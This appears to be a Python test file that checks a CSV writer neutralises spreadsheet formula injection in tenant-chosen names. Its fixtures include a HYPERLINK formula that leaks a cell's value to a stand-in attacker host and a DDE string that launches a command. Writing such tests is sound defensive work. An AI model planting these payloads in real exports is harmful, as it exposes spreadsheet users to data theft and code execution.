"""Names that tenants choose stand in tables that people open in a spreadsheet: none of them is run there."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import cast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shoal.core.cells import CSVWriter, safe
from shoal.ledger.queries import focus
from shoal.ledger.service import answer_csv

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"total")'
BEGINS = "=+-@\t\r"


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text", [ATTACK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "\n=1", "＝1"]
)
def test_what_a_spreadsheet_would_run_is_a_text(text: str) -> None:
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize(
    "cell",
    [0, -1, -0.5, None, True, Decimal("-2.5"), "-1", "+1", "-0.000001", "1e-9", "-1.5E+3", "acme", "a=b", "", "{}"],
)
def test_numbers_stay_numbers_and_other_texts_what_they_are(cell: object) -> None:
    assert safe(cell) == cell


@given(st.text(max_size=40))
def test_no_cell_begins_as_a_formula_and_nothing_is_lost(text: str) -> None:
    out = io.StringIO(newline="")
    CSVWriter(out).row([text])
    ((found,),) = read(out.getvalue()) or [[""]]
    assert found.removeprefix("'") == text or found == text
    if found.lstrip(" ").startswith(tuple(BEGINS)):
        float(found)


def test_the_ledgers_tables_and_the_focus_export_are_safe() -> None:
    table = answer_csv(["tenant", "tokens"], [[ATTACK, -5]])
    assert read(cast("bytes", table.body).decode()) == [["tenant", "tokens"], [f"'{ATTACK}", "-5"]]
    row = dict.fromkeys(focus.COLUMNS, "") | {focus.COLUMNS[0]: ATTACK}
    (line,) = focus.lines([row], header=False)
    assert read(line.decode())[0][0] == f"'{ATTACK}"


def test_without_it_the_formula_stands_there() -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow([ATTACK])
    assert read(out.getvalue()) == [[ATTACK]]


def test_nothing_else_writes_csv() -> None:
    root = Path(__file__).parents[3] / "operator" / "shoal"
    writers = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Import) and any(alias.name == "csv" for alias in node.names)
    ]
    assert writers == ["core/cells.py"]
